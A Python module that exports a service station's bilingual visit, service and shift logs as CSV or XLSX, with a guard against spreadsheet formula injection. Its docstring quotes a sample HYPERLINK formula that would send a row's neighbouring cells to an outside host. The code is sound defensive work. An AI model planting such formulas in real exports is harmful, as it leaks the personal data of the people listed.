"""Tables for export: rows of cells, written as CSV (UTF-8 with BOM) or XLSX.

Every cell a spreadsheet program opens passes through ``csv_cell`` or ``xlsx_cell``: text a
staff member or a roster file wrote (a name, a note, a service name) must stay text. A cell
that begins with = + - @ (or a tab or carriage return, or any of these after spaces) is a
formula to Excel, WPS and LibreOffice: ``=HYPERLINK("http://…?"&C2,"x")`` in a name would
send the row's neighbours to a stranger when the log is opened (OWASP "CSV injection").
"""
import csv
import io
import re

from core.clock import to_local
from core.presence import log_entries
from core.vocabulary import (AUTO_CLOSED, ERASED, IN_PROGRESS, PERSON_KIND_LABELS,
                             SHIFT_STATUS_LABELS, VISIT_KIND_LABELS, VOID, Word as _l, bilingual,
                             in_chinese)

# The log's file is the same for every reader: each column and entry named in Chinese, then
# in English, so that a funder's clerk and a visiting auditor read the same file.
DAY_LOG_COLUMNS = (_l("Time"), _l("Type"), _l("Name"), _l("Kind"), _l("Service"),
                   _l("Provider"), _l("Minutes"), _l("Source"), _l("Status"), _l("Note"))
ENTRY_WORDS = dict(VISIT_KIND_LABELS, service=_l("service"), shift=_l("shift"))


def _name(person):
    if person is None:
        return ""
    return person.name or in_chinese(ERASED, id=person.id)


def _person_kind(kind):
    word = PERSON_KIND_LABELS.get(kind)
    return in_chinese(word) if word is not None else ""


def _void(reason):
    return "%s: %s" % (bilingual(VOID, lower=True), reason)


def _shift_status(shift):
    if shift.ended_at is None:
        return bilingual(IN_PROGRESS)
    status = (_void(shift.void_reason) if shift.status == "voided"
              else bilingual(SHIFT_STATUS_LABELS[shift.status], lower=True))
    if shift.auto_closed:
        status += " · " + bilingual(AUTO_CLOSED)
    return status


def log_rows(station, start, end):
    """The log from day `start` to `end` as rows (header first), in time order."""
    rows = [[bilingual(column) for column in DAY_LOG_COLUMNS]]
    for at, kind, e in log_entries(station, start, end):
        void = _void(e.void_reason) if e.voided_at else ""
        if kind == "visit":
            cells = [bilingual(ENTRY_WORDS[e.kind], lower=True), _name(e.person),
                     _person_kind(e.person.kind), "", "", "", e.source, void, ""]
        elif kind == "service":
            cells = [bilingual(ENTRY_WORDS["service"]), _name(e.recipient),
                     _person_kind(e.recipient.kind), e.service.name_zh,
                     _name(e.provider), e.minutes or "", e.source, void, e.note]
        else:
            cells = [bilingual(ENTRY_WORDS["shift"]), _name(e.volunteer),
                     _person_kind("volunteer"), "", "",
                     e.minutes if e.minutes is not None else "", e.source, _shift_status(e),
                     e.content]
        rows.append([to_local(station, at).strftime("%Y-%m-%d %H:%M:%S")] + cells)
    return rows


def day_log_rows(station, day):
    """One day's log as rows (header first), in time order: visits, services, shifts."""
    return log_rows(station, day, day)


# The first characters that make a spreadsheet read a cell as a formula. The full-width forms
# are included because Chinese input methods type them and some spreadsheet programs
# convert them to the ASCII ones.
FORMULA_STARTS = frozenset("=+-@\t\r＝＋－＠")
# XML 1.0 cannot hold these (openpyxl refuses them: a stored note with one would stop an
# export); they are shown as U+FFFD.
_ILLEGAL_XML_RE = re.compile("[\x00-\x08\x0b\x0c\x0e-\x1f\ud800-\udfff\ufffe\uffff]")


def looks_like_formula(text):
    """True when a spreadsheet could take the text for a formula (OWASP's rule)."""
    if not isinstance(text, str) or not text:
        return False
    if text[0] in FORMULA_STARTS:
        return True
    stripped = text.lstrip(" \u00a0\u3000\n")
    return bool(stripped) and stripped[0] in FORMULA_STARTS


def csv_cell(value):
    """A cell as CSV text that a spreadsheet shows as written, never runs as a formula.

    Numbers stay numbers; text that could be a formula gets a leading apostrophe, which
    Excel and WPS read as "this is text".
    """
    if value is None:
        return ""
    if isinstance(value, str):
        return "'" + value if looks_like_formula(value) else value
    return value


def xlsx_cell(cell, value):
    """Put a value into an openpyxl cell so that it is data, never a formula.

    openpyxl stores any str beginning with "=" as a formula; text is written as a string
    cell instead, and text that looks like a formula is also marked quote-prefixed, so that
    editing the cell in Excel keeps it text.
    """
    if value is None:
        cell.value = ""
        return cell
    if isinstance(value, str):
        text = _ILLEGAL_XML_RE.sub("\ufffd", value)
        cell.value = text
        cell.data_type = "s"
        if looks_like_formula(text):
            cell.quotePrefix = True
        return cell
    cell.value = value
    return cell


def write_rows(sheet, rows, first_row=1):
    """Write rows of values into an openpyxl worksheet from `first_row` on, via xlsx_cell."""
    for number, row in enumerate(rows, start=first_row):
        for column, value in enumerate(row, start=1):
            xlsx_cell(sheet.cell(row=number, column=column), value)


def to_csv(rows):
    """CSV bytes in UTF-8 with a BOM, so Excel on Chinese Windows opens it as Chinese."""
    buffer = io.StringIO()
    writer = csv.writer(buffer, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_cell(c) for c in row])
    return buffer.getvalue().encode("utf-8-sig")


def to_xlsx(rows, sheet="Sheet1"):
    """XLSX bytes (openpyxl): a bold header row, frozen, with sensible column widths."""
    return to_xlsx_sheets([(sheet, rows)])


def _sheet_title(name, used):
    title = str(name)[:31]
    for bad in "/\\:*?[]":
        title = title.replace(bad, "-")
    title = title or "Sheet"
    base, n = title, 2
    while title in used:
        suffix = " (%d)" % n
        title, n = base[:31 - len(suffix)] + suffix, n + 1
    used.add(title)
    return title


def to_xlsx_sheets(sheets):
    """XLSX bytes with one worksheet per (name, rows); each sheet's first row is its header."""
    from openpyxl import Workbook
    from openpyxl.styles import Font
    book = Workbook()
    book.remove(book.active)
    used = set()
    for name, rows in sheets:
        ws = book.create_sheet(_sheet_title(name, used))
        write_rows(ws, rows)
        if rows:
            for cell in ws[1]:
                cell.font = Font(bold=True)
            ws.freeze_panes = "A2"
            for index in range(1, max(len(r) for r in rows) + 1):
                width = max(_display_width(r[index - 1]) if index - 1 < len(r) else 0
                            for r in rows)
                ws.column_dimensions[ws.cell(1, index).column_letter].width = \
                    min(40, width * 1.1 + 2)
    if not book.worksheets:
        book.create_sheet("Sheet1")
    buffer = io.BytesIO()
    book.save(buffer)
    return buffer.getvalue()


def _display_width(value):
    """Columns a cell needs: Chinese characters are twice as wide as Latin ones."""
    return sum(2 if ord(c) > 0x2E80 else 1 for c in str("" if value is None else value))
